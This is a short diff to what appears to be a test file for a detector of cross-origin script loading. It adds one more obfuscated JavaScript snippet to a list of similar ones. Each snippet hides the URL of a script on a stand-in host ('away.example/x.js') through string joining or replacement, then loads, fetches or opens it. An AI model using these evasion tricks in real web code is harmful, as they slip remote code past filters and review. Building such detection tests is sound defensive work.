@@ -28,6 +28,7 @@ def crossed(key: str) -> str:
         'var a=["https:","","away.example","x.js"];s.src=a.join("/")',
         'const m={a:"https://",b:"away",c:".example/x.js"};location.replace(m.a+m.b+m["c"])',
         "const h='away',t='example';fetch(`https://${h}.${t}/x.js`)",
+        "function h(){return ['away','example'].join('.')}s.src='https://'+h()+'/x.js'",
         's.src="https://".concat("away",".","example","/x.js")',
         's.src="https://away@example/x.js".replace("@",".")',
         "(function(w){var q='https:/'+'/away'; w.open(q+'.example'+'/x.js')})(window)",
